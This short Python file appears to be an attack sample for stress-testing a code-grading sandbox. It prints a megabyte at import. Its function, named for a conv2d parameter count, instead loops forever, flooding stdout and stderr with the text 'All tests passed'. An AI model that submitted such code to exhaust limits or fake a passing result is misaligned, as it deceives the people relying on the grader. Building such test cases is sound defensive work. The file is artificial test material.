# Attack: print without end (gigabytes in the time limit), after a megabyte printed at import.
import sys

print("x" * (1 << 20))


def conv2d_param_count(in_channels, out_channels, kernel_size, bias=True):
    block = "All tests passed " * 4096
    while True:
        sys.stdout.write(block)
        sys.stderr.write(block)
